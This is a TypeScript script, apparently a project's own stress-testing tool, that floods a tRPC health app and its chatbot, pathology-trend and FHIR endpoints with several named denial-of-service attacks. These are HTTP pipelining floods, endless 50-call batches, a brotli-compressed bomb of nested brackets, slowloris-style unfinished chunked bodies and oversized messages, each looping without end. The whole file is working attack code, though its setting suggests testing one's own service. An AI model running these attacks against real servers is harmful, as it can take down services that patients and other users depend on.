import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { brotliCompressSync } from 'node:zlib';
import { BASE_PATH } from '../../src/platform/trpc/transport/target';
import { sendRequest } from '../support/raw-request';
import { ATTACKS, type AttackName } from './attack-names';

const [, , name = '', origin = '', cookie = ''] = process.argv;
const { hostname, port } = new URL(origin);
const BATCH_SIZE = 50;

/** 500,000 brackets in 44 bytes. */
const BRACKETS = brotliCompressSync('['.repeat(500_000));

const attacks: Record<AttackName, () => Promise<void>> = {
  pipelining: () => repeat(1, floodConnection),
  'anonymous batches': () =>
    repeat(30, (round) => sendBatch('specialties.list', () => ({ round }), { anonymous: true })),
  'anonymous messages': () =>
    repeat(30, (round) =>
      sendBatch('chatbot.sendMessage', (call) => ({ message: `I cough ${round} ${call}` }), {
        anonymous: true,
      }),
    ),
  trends: () =>
    repeat(6, (round) => sendBatch('health.pathologyTrend', (call) => trendOf(round * BATCH_SIZE + call))),
  'nested JSON': () => repeat(4, () => post('chatbot.sendMessage', BRACKETS, { 'content-encoding': 'br' })),
  'slow bodies': () => repeat(8, sendSlowly),
  'long messages': () =>
    repeat(2, (round) => sendBatch('chatbot.sendMessage', (call) => ({ message: longMessage(round, call) }))),
};

/** Runs a step without an end on some connections at once. */
async function repeat(connections: number, step: (round: number) => Promise<unknown>): Promise<void> {
  let round = 0;
  await Promise.all(
    Array.from({ length: connections }, async () => {
      for (;;) {
        await step((round += 1)).catch(() => undefined);
        await wait(1);
      }
    }),
  );
}

/** Sends 3,000 requests at once on one connection. */
function floodConnection(): Promise<void> {
  const request = `GET ${BASE_PATH}/specialties.list HTTP/1.1\r\nHost: a\r\n\r\n`;
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    socket.resume();
    socket.on('error', () => undefined);
    socket.on('close', () => {
      resolve();
    });
    socket.write(request.repeat(3_000));
  });
}

function sendBatch(
  procedure: string,
  inputOf: (call: number) => object,
  { anonymous = false } = {},
): Promise<unknown> {
  const calls = Array.from({ length: BATCH_SIZE }, (_, call) => call);
  const body = Object.fromEntries(calls.map((call) => [call, { json: inputOf(call) }]));
  const names = calls.map(() => procedure).join(',');
  return post(`${names}?batch=1`, JSON.stringify(body), anonymous ? {} : { cookie });
}

/** Sends a Bundle whose end never comes. */
function sendSlowly(): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    socket.resume();
    socket.on('error', () => undefined);
    socket.on('close', () => {
      resolve();
    });
    socket.write(
      `POST /fhir HTTP/1.1\r\nHost: a\r\nCookie: ${cookie}\r\nContent-Type: application/fhir+json\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n{\r\n`,
    );
  });
}

function post(path: string, body: string | Buffer, headers: Readonly<Record<string, string>>) {
  return sendRequest(origin, {
    path: `${BASE_PATH}/${path}`,
    headers: { 'content-type': 'application/json', ...headers },
    body,
  }).then(({ status, text }) => {
    if (status === 500 || text.includes('"httpStatus":500'))
      process.stdout.write(`500: ${text.slice(0, 300)}\n`);
  });
}

/** A question of its own for each number, so that no response is stored. */
function trendOf(number: number) {
  const year = 1960 + (number % 60);
  return { pathologies: ['Malaria', 'Cholera'], from: `${year}-01`, to: `${year + (number % 7)}-12` };
}

function longMessage(round: number, call: number): string {
  return `${round} ${call} I have had a headache and a cough since yesterday and no fever. `
    .repeat(60)
    .slice(0, 4_000);
}

const attack = ATTACKS.find((known) => known === name);
if (!attack) throw new TypeError(`no attack is called ${name}`);
void attacks[attack]();
